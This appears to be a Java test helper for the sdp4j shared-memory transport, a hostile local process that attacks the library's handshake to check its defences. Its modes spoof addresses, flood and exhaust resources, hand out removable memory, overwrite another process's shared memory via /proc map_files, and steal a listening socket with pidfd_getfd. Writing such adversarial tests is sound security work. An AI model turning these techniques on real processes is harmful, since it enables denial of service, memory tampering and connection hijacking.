package io.sdp4j.fabric.shm.attack;

import static java.lang.foreign.ValueLayout.ADDRESS;
import static java.lang.foreign.ValueLayout.JAVA_BYTE;
import static java.lang.foreign.ValueLayout.JAVA_INT;
import static java.lang.foreign.ValueLayout.JAVA_LONG;
import static java.lang.foreign.ValueLayout.JAVA_SHORT;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemoryLayout;
import java.lang.foreign.MemorySegment;
import java.lang.invoke.MethodHandle;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Arrays;
import java.util.List;
import java.util.stream.IntStream;

/**
 * A hostile process of the same user. It speaks the hand-shake from its description alone, with
 * sockets and system calls of its own, and shares no class with what it attacks.
 *
 * <p>Arguments: what to do, the path of the rendezvous socket, the port, and more. It prints one
 * line for what came of it, and stays until its input ends.
 */
public final class Attacker {
    private static final int MSG_OOB = 1;
    private static final int AF_UNIX = 1;
    private static final int AF_INET = 2;
    private static final int SOCK_STREAM = 1;
    private static final int SOL_SOCKET = 1;
    private static final int SO_SNDBUF = 7;
    private static final int SO_RCVBUF = 8;
    private static final int SO_LINGER = 13;
    private static final int SO_RCVTIMEO = 20;
    private static final int MESSAGE_BYTES = 640;
    private static final int HELLO = 0x53445048;
    private static final int REPLY = 0x53445052;
    private static final int READY = 0x53445059;
    private static final int VERSION = 5;

    /** Statement of the next Hello about a connection that is to move. */
    private static int moves;

    private static final int LOOPBACK = 0x7F000001;
    private static final int UNOWNED = 0xCB00714D;
    private static final int IP_FREEBIND = 15;
    private static final int MFD_ALLOW_SEALING = 2;
    private static final int MFD_HUGETLB = 4;
    private static final int F_ADD_SEALS = 1033;
    private static final int F_SEAL_SEAL = 1;
    private static final int F_SEAL_SHRINK = 2;
    private static final int F_SEAL_GROW = 4;

    /** The address that the next Hello wants; 0 = the loopback address of IPv6. */
    private static int target = LOOPBACK;

    private static final Linker LINKER = Linker.nativeLinker();
    private static final MethodHandle SOCKET = of("socket", JAVA_INT, JAVA_INT, JAVA_INT);
    private static final MethodHandle CONNECT = of("connect", JAVA_INT, ADDRESS, JAVA_INT);
    private static final MethodHandle BIND = of("bind", JAVA_INT, ADDRESS, JAVA_INT);
    private static final MethodHandle PAIR =
            of("socketpair", JAVA_INT, JAVA_INT, JAVA_INT, ADDRESS);
    private static final MethodHandle LISTEN = of("listen", JAVA_INT, JAVA_INT);
    private static final MethodHandle ACCEPT = of("accept", JAVA_INT, ADDRESS, ADDRESS);
    private static final MethodHandle NAME = of("getsockname", JAVA_INT, ADDRESS, ADDRESS);
    private static final MethodHandle OPTION =
            of("setsockopt", JAVA_INT, JAVA_INT, JAVA_INT, ADDRESS, JAVA_INT);
    private static final MethodHandle SEND = of("sendmsg", JAVA_INT, ADDRESS, JAVA_INT);
    private static final MethodHandle RECEIVE = of("recv", JAVA_INT, ADDRESS, JAVA_LONG, JAVA_INT);
    private static final MethodHandle MEMFD = of("memfd_create", ADDRESS, JAVA_INT);
    private static final MethodHandle SIZE = of("ftruncate", JAVA_INT, JAVA_LONG);
    private static final MethodHandle FCNTL = of("fcntl", JAVA_INT, JAVA_INT, JAVA_INT);
    private static final MethodHandle CLOSE = of("close", JAVA_INT);
    private static final MethodHandle PIDFD_OPEN = of("pidfd_open", JAVA_INT, JAVA_INT);
    private static final MethodHandle PIDFD_GETFD = of("pidfd_getfd", JAVA_INT, JAVA_INT, JAVA_INT);
    private static final Arena ARENA = Arena.global();

    private Attacker() {}

    @SuppressWarnings("restricted")
    private static MethodHandle of(String name, MemoryLayout... arguments) {
        return LINKER.downcallHandle(
                LINKER.defaultLookup().findOrThrow(name),
                FunctionDescriptor.of(JAVA_INT, arguments));
    }

    private static int call(MethodHandle handle, Object... arguments) {
        try {
            return (int) handle.invokeWithArguments(arguments);
        } catch (Throwable t) {
            throw new AssertionError(t);
        }
    }

    public static void main(String[] args) throws Exception {
        String path = args[1];
        int port = Integer.parseInt(args[2]);
        String said =
                switch (args[0]) {
                    case "honest" -> hello(path, port, 8, 1024, bound(), 0, 0);
                    case "liar" -> hello(path, port, 8, 1024, bound(), UNOWNED, 443);
                    case "other-port" -> hello(path, port, 8, 1024, bound(), LOOPBACK, 22);
                    case "nothing" -> hello(path, port, 8, 1024, -1, LOOPBACK, 4711);
                    case "no-socket" -> hello(path, port, 8, 1024, 0, LOOPBACK, 4711);
                    case "glutton" -> hello(path, port, 1024, 1 << 20, bound(), 0, 0);
                    case "usual" -> hello(path, port, 35, 262_160, bound(), 0, 0);
                    case "greedy" -> hello(path, port, 36, 262_160, bound(), 0, 0);
                    case "garbage" -> raw(path, MESSAGE_BYTES);
                    case "silent" -> raw(path, 0);
                    case "mover" -> move(path, port);
                    case "stolen" -> moveOfAnother(path, port, Integer.parseInt(args[3]));
                    case "freebind" -> freebind(path, port, args[3]);
                    case "elsewhere" -> elsewhere(path, port, args[3]);
                    case "other-family" -> otherFamily(path, port);
                    case "insider" -> scribble(path);
                    case "lingering" -> lingering(path, port, args[3]);
                    case "flood" -> flood(path, Integer.parseInt(args[3]));
                    case "server" -> serve(path, port, args[3], args.length > 4 ? args[4] : "");
                    case "thief" -> steal(path, port, Integer.parseInt(args[3]));
                    default -> throw new IllegalArgumentException(args[0]);
                };
        System.out.println(said);
        System.exit(System.in.read() < 0 ? 0 : 1);
    }

    /** A TCP socket that is bound to some port of 127.0.0.1. */
    private static int bound() {
        int fd = call(SOCKET, AF_INET, SOCK_STREAM, 0);
        bind(fd, LOOPBACK, 0);
        return fd;
    }

    private static void bind(int fd, int ip, int port) {
        if (call(BIND, fd, inet(ip, port), 16) < 0) {
            throw new IllegalStateException("cannot bind");
        }
    }

    private static MemorySegment inet(int ip, int port) {
        MemorySegment at = ARENA.allocate(16, 8);
        at.set(JAVA_SHORT, 0, (short) AF_INET);
        at.set(JAVA_SHORT, 2, Short.reverseBytes((short) port));
        at.set(JAVA_INT, 4, Integer.reverseBytes(ip));
        return at;
    }

    private static int portOf(int fd) {
        MemorySegment at = ARENA.allocate(24, 8);
        at.set(JAVA_INT, 16, 16);
        call(NAME, fd, at, at.asSlice(16));
        return Short.toUnsignedInt(Short.reverseBytes(at.get(JAVA_SHORT, 2)));
    }

    private static int open(String path) {
        int fd = call(SOCKET, AF_UNIX, SOCK_STREAM, 0);
        return call(CONNECT, fd, unix(path), 110) < 0 ? -1 : fd;
    }

    private static MemorySegment unix(String path) {
        MemorySegment at = ARENA.allocate(110, 8);
        at.set(JAVA_SHORT, 0, (short) AF_UNIX);
        byte[] name = path.getBytes(StandardCharsets.UTF_8);
        MemorySegment.copy(name, 0, at, JAVA_BYTE, 2, name.length);
        return at;
    }

    /**
     * @param ip what is claimed; 0 = what {@code passed} is bound to
     */
    private static String hello(
            String path, int port, int slots, int bytes, int passed, int ip, int own) {
        return hello(open(path), port, slots, bytes, passed, ip, own);
    }

    private static String hello(
            int fd, int port, int slots, int bytes, int passed, int ip, int own) {
        if (fd < 0) {
            return "no rendezvous";
        }
        limit(fd);
        ByteBuffer b = ByteBuffer.allocate(MESSAGE_BYTES);
        b.putInt(0, HELLO).putShort(4, (short) VERSION);
        b.putInt(8, slots).putInt(12, bytes).putInt(16, slots);
        if (target == 0) {
            b.putShort(24, (short) 16).putShort(26, (short) port).put(32 + 15, (byte) 1); // ::1
        } else {
            address(b, 24, target, port);
        }
        address(b, 64, ip == 0 ? LOOPBACK : ip, ip == 0 ? portOf(passed) : own);
        b.putInt(104, moves);
        if (!send(fd, b.array(), passed)) {
            return "not sent";
        }
        byte[] reply = receive(fd);
        return reply == null || ByteBuffer.wrap(reply).getInt(0) != REPLY
                ? "cut"
                : "status " + ByteBuffer.wrap(reply).getInt(24);
    }

    /** Says {@code bytes} bytes that mean nothing. */
    private static String raw(String path, int bytes) {
        int fd = open(path);
        limit(fd);
        if (bytes > 0) {
            send(fd, new byte[bytes], -1);
        }
        return receive(fd) == null ? "cut" : "answered";
    }

    /** Wants to move a connection that it has made, but that the listener has not accepted. */
    private static String move(String path, int port) {
        int fd = bound();
        if (call(CONNECT, fd, inet(LOOPBACK, port), 16) < 0) {
            return "cannot connect";
        }
        moves = 1;
        return hello(path, port, 8, 1024, fd, 0, 0);
    }

    /** Wants to move the connection of another client, with a socket of its own. */
    private static String moveOfAnother(String path, int port, int client) {
        moves = 1;
        return hello(path, port, 8, 1024, bound(), LOOPBACK, client);
    }

    /** Holds an address that no interface has, which the kernel allows. */
    private static String freebind(String path, int port, String listener) throws Exception {
        target = number(listener);
        int fd = call(SOCKET, AF_INET, SOCK_STREAM, 0);
        MemorySegment on = ARENA.allocate(4, 4);
        on.set(JAVA_INT, 0, 1);
        call(OPTION, fd, 0, IP_FREEBIND, on, 4);
        bind(fd, UNOWNED, 0);
        return hello(path, port, 8, 1024, fd, UNOWNED, portOf(fd));
    }

    /** Holds an address of this host, and wants one that this host does not have. */
    private static String elsewhere(String path, int port, String own) throws Exception {
        int fd = call(SOCKET, AF_INET, SOCK_STREAM, 0);
        bind(fd, number(own), 0);
        target = UNOWNED;
        return hello(path, port, 8, 1024, fd, number(own), portOf(fd));
    }

    private static int number(String address) throws IOException {
        return ByteBuffer.wrap(InetAddress.getByName(address).getAddress()).getInt();
    }

    private static String otherFamily(String path, int port) {
        target = 0;
        return hello(path, port, 8, 1024, bound(), 0, 0);
    }

    /** Writes over the memory of one connection of the process {@code /proc/PID}. */
    private static String scribble(String process) throws IOException {
        for (String line : Files.readAllLines(Path.of(process, "maps"))) {
            if (line.contains("memfd:sdp4j")) {
                Path file = Path.of(process, "map_files", line.substring(0, line.indexOf(' ')));
                try (FileChannel c = FileChannel.open(file, StandardOpenOption.WRITE)) {
                    byte[] words = new byte[(int) c.size()];
                    Arrays.fill(words, (byte) 0xFF);
                    return "scribbled " + c.write(ByteBuffer.wrap(words), 0);
                } catch (IOException e) {
                    return "no memory: " + e;
                }
            }
        }
        return "no memory";
    }

    private static void address(ByteBuffer b, int at, int ip, int port) {
        b.putShort(at, (short) 4).putShort(at + 2, (short) port).putInt(at + 8, ip);
    }

    /**
     * When it is told to, passes sockets whose last close waits for an hour, as no peer reads what
     * they have sent, and closes its own. Then it asks as an honest client does.
     */
    private static String lingering(String path, int port, String how) throws IOException {
        byte[] one = new byte[1];
        int fd = open(path);
        int[] connected = {fd};
        if (how.equals("connected")) {
            connected = IntStream.range(0, 8).map(_ -> open(path)).toArray();
        }
        if (List.of("wake", "connected").contains(how)) {
            for (int c : connected) {
                hello(c, port, 8, 1024, bound(), 0, 0);
                send(c, ByteBuffer.allocate(16).putInt(0, READY).array());
            }
        }
        System.out.println("ready");
        System.in.read();
        switch (how) {
            case "byte", "wake" -> sendLast(fd, one, unread());
            case "urgent" -> {
                int waits = unread();
                send(fd, MSG_OOB, one, waits);
                call(CLOSE, waits);
            }
            case "third" -> sendLast(fd, one, bound(), bound(), unread());
            case "unread" -> {
                send(fd, new byte[MESSAGE_BYTES]);
                sendLast(fd, one, unread());
            }
            case "nested" -> {
                MemorySegment pair = ARENA.allocate(8, 4);
                call(PAIR, AF_UNIX, SOCK_STREAM, 0, pair);
                sendLast(pair.get(JAVA_INT, 0), one, unread());
                sendLast(fd, one, pair.get(JAVA_INT, 4));
                call(CLOSE, pair.get(JAVA_INT, 0));
            }
            case "many" -> lingerMany(path);
            case "full" -> {
                lingerOnce(path);
                int[] much = copies();
                for (int n = 0; n < 8; n++) { // of more, a user may have too many under way
                    send(fd, one, much);
                }
            }
            case "connected" -> {
                lingerMany(path);
                int[] much = copies();
                for (int c : connected) {
                    send(c, one, much);
                }
            }
            case "backlog" -> {
                lingerOnce(path);
                int[] much = copies();
                for (int n = 0; n < 100; n++) {
                    int another = open(path);
                    send(another, one, much);
                    call(CLOSE, another);
                }
            }
            default -> throw new IllegalArgumentException(how);
        }
        call(CLOSE, fd);
        System.out.println("sent");
        if (how.equals("connected")) {
            for (int c : connected) {
                receive(c); // until it is ended
            }
        }
        return hello(path, port, 8, 1024, bound(), 0, 0);
    }

    private static void lingerMany(String path) {
        for (int n = 0; n < 70; n++) {
            lingerOnce(path);
        }
    }

    private static void lingerOnce(String path) {
        int another = open(path);
        sendLast(another, new byte[1], unread());
        call(CLOSE, another);
    }

    /** As many descriptors as a message may have. */
    private static int[] copies() {
        int[] copies = new int[253];
        Arrays.fill(copies, memory(1, 0, 0));
        return copies;
    }

    /** Sends descriptors away, of which no others are left here. */
    private static void sendLast(int fd, byte[] bytes, int... passed) {
        send(fd, bytes, passed);
        for (int p : passed) {
            call(CLOSE, p);
        }
    }

    /** A TCP socket that lingers, with all sent that fits, to a peer that reads nothing. */
    private static int unread() {
        int listening = bound();
        MemorySegment values = ARENA.allocate(8, 4);
        values.set(JAVA_INT, 0, 4096);
        call(OPTION, listening, SOL_SOCKET, SO_RCVBUF, values, 4);
        call(LISTEN, listening, 1);
        int fd = bound();
        call(OPTION, fd, SOL_SOCKET, SO_SNDBUF, values, 4);
        call(CONNECT, fd, inet(LOOPBACK, portOf(listening)), 16);
        byte[] much = new byte[4096];
        while (send(fd, 0x4040, much) > 0) {
            // until nothing more fits
        }
        values.set(JAVA_INT, 0, 1);
        values.set(JAVA_INT, 4, 3600);
        call(OPTION, fd, SOL_SOCKET, SO_LINGER, values, 8);
        return fd;
    }

    /** Half a Hello on each of many connections, none of which is ended. */
    private static String flood(String path, int count) {
        int made = 0;
        for (; made < count; made++) {
            int fd = call(SOCKET, AF_UNIX, SOCK_STREAM | 0x800, 0);
            if (fd < 0 || call(CONNECT, fd, unix(path), 110) < 0) {
                break;
            }
            send(fd, new byte[100], -1);
        }
        return "flooded " + made;
    }

    /**
     * Takes the name of the port, and in a network of its own the port, too. Answers the first
     * Hello with memory that can be taken away, if anybody asks at all.
     */
    private static String serve(String path, int port, String memory, String bytes)
            throws IOException {
        Files.deleteIfExists(Path.of(path)); // of a process that has ended
        int tcp = call(SOCKET, AF_INET, SOCK_STREAM, 0);
        if (call(BIND, tcp, inet(LOOPBACK, port), 16) == 0) {
            call(LISTEN, tcp, 10);
        }
        int listening = call(SOCKET, AF_UNIX, SOCK_STREAM, 0);
        if (call(BIND, listening, unix(path), 110) < 0 || call(LISTEN, listening, 10) < 0) {
            return "cannot listen";
        }
        System.out.println("listening " + port);
        limit(listening);
        int fd = call(ACCEPT, listening, MemorySegment.NULL, MemorySegment.NULL);
        if (fd < 0) {
            return "no client came";
        }
        limit(fd);
        byte[] hello = receive(fd);
        if (hello == null) {
            return "not asked";
        }
        long size = bytes.isEmpty() ? 2 << 20 : Long.parseLong(bytes);
        int passed =
                switch (memory) {
                    case "none" -> -1;
                    case "huge" ->
                            memory(size, MFD_HUGETLB, F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW);
                    case "growing" -> memory(size, 0, F_SEAL_SEAL | F_SEAL_SHRINK);
                    default -> memory(size, 0, 0);
                };
        return answer(fd, hello, size, passed);
    }

    /** Says yes to a Hello, and passes a descriptor, or -1: none. */
    private static String answer(int fd, byte[] hello, long size, int passed) {
        ByteBuffer asked = ByteBuffer.wrap(hello);
        ByteBuffer b = ByteBuffer.allocate(MESSAGE_BYTES);
        b.putInt(0, REPLY).putShort(4, (short) VERSION);
        b.putInt(8, asked.getInt(8)).putInt(12, asked.getInt(12)).putInt(16, asked.getInt(16));
        b.putLong(32, size);
        send(fd, b.array(), passed);
        return receive(fd) == null ? "refused" : "believed";
    }

    /**
     * Takes the listener of a process, and the name of the port. Then it hears a client, accepts a
     * connection by TCP, and wants to be the end of one that the other process has accepted.
     */
    private static String steal(String path, int port, int pid) throws IOException {
        int tcp = listenerOf(pid, port);
        if (tcp < 0) {
            return "cannot steal";
        }
        Files.deleteIfExists(Path.of(path));
        int listening = call(SOCKET, AF_UNIX, SOCK_STREAM, 0);
        if (call(BIND, listening, unix(path), 110) < 0 || call(LISTEN, listening, 10) < 0) {
            return "cannot listen";
        }
        System.out.println("listening " + port);
        int fd = call(ACCEPT, listening, MemorySegment.NULL, MemorySegment.NULL);
        System.out.println(receive(fd) == null ? "not asked" : "asked");
        call(CLOSE, fd);
        int accepted = call(ACCEPT, tcp, MemorySegment.NULL, MemorySegment.NULL);
        System.out.println(accepted < 0 ? "no client came" : "accepted");
        fd = call(ACCEPT, listening, MemorySegment.NULL, MemorySegment.NULL);
        byte[] hello = receive(fd);
        return hello == null || ByteBuffer.wrap(hello).getInt(104) != 1
                ? "not asked"
                : answer(fd, hello, 2 << 20, accepted);
    }

    /** A copy of the descriptor that is the listener of another process. */
    private static int listenerOf(int pid, int port) {
        int process = call(PIDFD_OPEN, pid, 0);
        for (int n = 0; n < 1024; n++) {
            int fd = call(PIDFD_GETFD, process, n, 0);
            if (fd >= 0 && portOf(fd) == port) {
                return fd;
            }
            if (fd >= 0) {
                call(CLOSE, fd);
            }
        }
        return -1;
    }

    private static int memory(long size, int flags, int seals) {
        int fd = call(MEMFD, ARENA.allocateFrom("evil"), MFD_ALLOW_SEALING | flags);
        call(SIZE, fd, size);
        call(FCNTL, fd, F_ADD_SEALS, seals);
        return fd;
    }

    private static void limit(int fd) {
        MemorySegment time = ARENA.allocate(16, 8);
        time.set(JAVA_LONG, 0, 5);
        call(OPTION, fd, SOL_SOCKET, SO_RCVTIMEO, time, 16);
    }

    private static boolean send(int fd, byte[] bytes, int... passed) {
        return send(fd, 0x4000, bytes, passed) == bytes.length;
    }

    /** The descriptors that are not negative are passed along. */
    private static int send(int fd, int flags, byte[] bytes, int... passed) {
        MemorySegment data = ARENA.allocate(bytes.length, 8);
        MemorySegment.copy(bytes, 0, data, JAVA_BYTE, 0, bytes.length);
        MemorySegment vector = ARENA.allocate(16, 8);
        vector.set(JAVA_LONG, 0, data.address());
        vector.set(JAVA_LONG, 8, bytes.length);
        MemorySegment header = ARENA.allocate(56, 8);
        header.set(JAVA_LONG, 16, vector.address());
        header.set(JAVA_LONG, 24, 1);
        int[] shown = Arrays.stream(passed).filter(p -> p >= 0).toArray();
        if (shown.length > 0) {
            MemorySegment control = ARENA.allocate(16 + 8 * shown.length, 8);
            control.set(JAVA_LONG, 0, 16 + 4 * shown.length);
            control.set(JAVA_INT, 8, SOL_SOCKET);
            control.set(JAVA_INT, 12, 1);
            MemorySegment.copy(shown, 0, control, JAVA_INT, 16, shown.length);
            header.set(JAVA_LONG, 32, control.address());
            header.set(JAVA_LONG, 40, (16 + 4 * shown.length + 7) / 8 * 8L);
        }
        return call(SEND, fd, header, flags);
    }

    /** One whole message, or null if it did not come. */
    private static byte[] receive(int fd) {
        byte[] all = new byte[MESSAGE_BYTES];
        MemorySegment into = ARENA.allocate(MESSAGE_BYTES, 8);
        for (int have = 0; have < all.length; ) {
            int n = call(RECEIVE, fd, into, (long) all.length - have, 0);
            if (n <= 0) {
                return null;
            }
            MemorySegment.copy(into, JAVA_BYTE, 0, all, have, n);
            have += n;
        }
        return all;
    }
}
